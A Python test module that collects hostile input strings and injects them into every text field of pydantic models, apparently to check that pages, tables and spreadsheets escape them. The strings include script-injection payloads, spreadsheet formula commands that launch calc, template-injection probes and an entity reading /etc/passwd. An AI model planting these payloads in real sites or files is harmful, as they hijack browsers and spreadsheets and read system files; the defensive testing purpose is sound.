"""Hostile texts that try to make a page, table or sheet run them, and a helper that puts them into every text field."""

from __future__ import annotations

import re
import warnings
from collections.abc import Callable, Iterator
from itertools import cycle
from typing import Annotated, Any, TypeVar, cast

from pydantic import BaseModel, TypeAdapter, ValidationError

M = TypeVar("M", bound=BaseModel)
RUN = "window.owned=1;document.title='owned';alert(1)"  # what a text does if it runs
AWAY = "http://127.0.0.1:9/taken"  # nothing listens there; a page's request for it is logged
TEXTS: dict[str, str] = {
    "script": f"</script><script>{RUN}</script>",
    "script, cased": f"</ScRiPt ><sCrIpT\n>{RUN}</sCrIpT >",
    "script in a comment": f"<!--<script><!-- --!><script>{RUN}</script>-->",
    "script from afar": f"<script src={AWAY}.js></script>",
    "module": f'<script type=module>import "{AWAY}.mjs"</script>',
    "image": f'<img src=x onerror="{RUN}">',
    "image from afar": f"<img src={AWAY}.png srcset='{AWAY}-2.png 2x'><picture><source srcset={AWAY}.webp></picture>",
    "drawing": f"<svg onload={RUN}><animate onbegin={RUN} attributeName=x dur=1s><use href='{AWAY}.svg#a'/></svg>",
    "MathML": f"<math><mtext><table><mglyph><style><!--</style><img title='--&gt;&lt;img src=1 onerror={RUN}'>",
    "attribute": f'" onmouseover="{RUN}" autofocus onfocus=\'{RUN}\' x="',
    "attribute, single": f"' onclick='{RUN}' style='position:fixed;inset:0;background:url({AWAY}.png)",
    "attribute, none": f" onpointerenter={RUN} tabindex=1 `onfocus={RUN}`",
    "link": f"<a href='javascript:{RUN}' ping={AWAY}>here</a> javascript:{RUN} java\tscript:{RUN}",
    "data link": f"<a href='data:text/html,<script>{RUN}</script>'>here</a> data:text/html;base64,PHNjcmlwdD4=",
    "base": f"<base href={AWAY}/ target=_blank>",
    "refresh": f"<meta http-equiv=refresh content='0;url={AWAY}.html'>",
    "policy": "<meta http-equiv=Content-Security-Policy content=\"script-src 'unsafe-inline' *\">",
    "style": f"</style><style>@import '{AWAY}.css';*{{display:none!important;background:url({AWAY}.png)}}</style>",
    "style sheet": f"<link rel=stylesheet href={AWAY}.css><link rel=preload as=image href={AWAY}.png>",
    "frame": f"<iframe srcdoc='<script>parent.{RUN}</script>'></iframe><iframe src={AWAY}></iframe><object data=x>",
    "form": f"</form><form action={AWAY} id=filter><input name=words autofocus><button formaction={AWAY}>",
    "template": f"</template><template shadowrootmode=open><slot onslotchange={RUN}></slot></template>",
    "plaintext": "<plaintext><xmp><listing><noembed><noframes>",
    "raw text": "</title></textarea></noscript></select></option><textarea><select><option>",
    "tables": "</td></tr></tbody></table></details></summary></main></body></html><table><tr><td>",
    "names": "<form name=getElementById><img name=body><a id=data><a id=filter><input name=elements>",
    "comment": "<!-- <!--> <!---> --> --!> <![CDATA[ ]]> <?xml ?> <!DOCTYPE html [<!ENTITY x SYSTEM 'file:///etc/passwd'>]>",
    "entities": "&lt;script&gt; &#60;img src=x&#62; &amp;lt; &NewLine; &colon; &#x0; &#xD800; &unknown; &lt",
    "templates": "{{ 7*191 }} {% raw %} {# x #} ${7*191} <%= 7*191 %> #{7*191} {{ s.__class__ }} {{''|attr('x')}}",
    "formula": "=cmd|' /C calc'!A0",
    "formula of a link": '=HYPERLINK("http://127.0.0.1:9/taken","here")',
    "formula, plus": "+1+cmd|' /C calc'!A0",
    "formula, minus": "-2+3+cmd|' /C calc'!A0",
    "formula, at": "@SUM(1+1)*cmd|' /C calc'!A0",
    "formula behind a tab": "\t=1+1",
    "formula behind a line end": "\r\n=1+1\r=2+2\n\n=3+3",
    "formula behind a separator": 'so;=1+1;"=2+2",=3+3\t=4+4;  =5+5',
    "formula behind a quote": "'=1+1\n''=2+2\n'plain",
    "formula, wide": "＝1+1\n＋1\n－1\n＠SUM(1)",
    "Markdown link": f"[here](javascript:{RUN}) ![x]({AWAY}.png) <{AWAY}> [x]: {AWAY} [x][x]",
    "Markdown table": "a | b |\n|---|---|\n| c \\| d \\\\| e \\\\\\| f | `g|h` |",
    "Markdown blocks": "x\n# Composite 100\n===\n---\n> quoted\n- item\n1. one\n```\n~~~\n    code\n***\n+ plus",
    "separators": "a\u2028b\u2029c\x85d\x0be\x0cf\x1cg\x00h",
    "half characters": "\ud83d \ude00 \ud800 \udfff \ufffe \uffff \ufdd0 \U0001ffff",
    "turned around": "\u202egnp.exe\u202c \u2066a\u2067b\u2068c\u2069 \u200f\u200e\u061c",
    "terminal": "\x1b[31mred\x1b]0;title\x07\x1b]8;;http://127.0.0.1:9\x1b\\here\x9b2J\x08\x7f",
    "unseen": "\ufeffa\u200bb\u200cc\u200dd\u2060e\u00adf\U000e0041\U000e0042\u3164\u115f\u180e",
    "right to left": "مرحبا بالعالم " * 3 + "שלום עולם",
    "nested": "<div>" * 2000 + "x" + "</div>" * 1000,
    "brackets": "[" * 2000 + "{" * 2000 + "(" * 2000,
    "no space": "w" * 1_000_000,
    "no space, wide": "語" * 20_000 + "\u00a0" * 500 + "-" * 500 + "_" * 500,
    "marks": "Z" + "\u0301\u0489\u20dd\u0e47" * 2_500 + "algo" + ("x" + "\u033f" * 60) * 20,
    "lines": "\n" * 3000 + "end",
    "spaces": " " * 5000 + "end",
    "spaces, wide": "\u3000" * 500 + "\u2003" * 500 + "end",
}
SMALL = {name: text for name, text in TEXTS.items() if len(text) < 1000}
# All but the characters that make sentences, paragraphs, lists and headings; a harmless twin keeps only those.
SHAPE = re.compile(
    r"[^\w\s\-#.!?]|[\x00-\x08\x0b\x0c\x0e-\x1f\x7f-\x9f\u200e-\u200f\u2028-\u202e\u2066-\u2069\ud800-\udfff]"
)


def harmless(text: str) -> str:
    """A text of the same shape that nothing can run."""
    return SHAPE.sub("x", text)


class Poison:
    """Puts texts, one after the other, into every field of a model that takes any text. `fields`: the changed ones."""

    def __init__(self, texts: Iterator[str], keep: frozenset[str] = frozenset()) -> None:
        self.texts, self.keep, self.fields = texts, keep, set[str]()

    def __call__(self, model: M) -> M:
        """The model with the texts; fields that reject them, such as a closed set of words, stay unchanged."""
        changed = {name: self._value(model, name) for name in type(model).model_fields if name not in self.keep}
        return model.model_copy(update=changed)

    def _value(self, model: BaseModel, name: str) -> Any:
        value = getattr(model, name)
        if not any(True for _ in _strings(value)):
            return self._inner(value)
        poisoned = _each(value, lambda _: next(self.texts))
        if not _fits(type(model), name, poisoned):
            return self._inner(value)
        self.fields.add(f"{type(model).__name__}.{name}")
        return poisoned

    def _inner(self, value: Any) -> Any:
        if isinstance(value, BaseModel):
            return self(value)
        if isinstance(value, list | tuple):
            inner = [self._inner(v) for v in cast("list[Any]", value)]
            return tuple(inner) if isinstance(value, tuple) else inner
        if isinstance(value, dict):
            return {k: self._inner(v) for k, v in value.items()}
        return value


def in_turn(change: Callable[[str], str] = str, texts: dict[str, str] = TEXTS, start: int = 0) -> Iterator[str]:
    """Cycles through the texts, beginning with the one at `start`."""
    named = [*texts.values()]
    return map(change, cycle([*named[start:], *named[:start]]))


def _strings(value: Any) -> Iterator[str]:
    """The texts in plain lists and dictionaries, without those in models, which are handled separately."""
    if isinstance(value, str):
        yield value
    elif isinstance(value, list | tuple):
        for v in cast("list[Any]", value):
            yield from _strings(v)
    elif isinstance(value, dict):
        for v in value.values():
            yield from _strings(v)


def _each(value: Any, change: Callable[[str], str]) -> Any:
    if isinstance(value, str):
        return change(value)
    if isinstance(value, list | tuple):
        changed = [_each(v, change) for v in cast("list[Any]", value)]
        return tuple(changed) if isinstance(value, tuple) else changed
    if isinstance(value, dict):
        return {k: _each(v, change) for k, v in value.items()}
    return value


def _fits(kind: type[BaseModel], name: str, value: Any) -> bool:
    field = kind.model_fields[name]
    hint: Any = Annotated[field.annotation, *field.metadata] if field.metadata else field.annotation
    try:
        with warnings.catch_warnings(action="ignore"):
            TypeAdapter(hint).validate_python(_each(value, lambda t: t.encode("utf-8", "replace").decode()))
    except ValidationError:
        return False
    return True
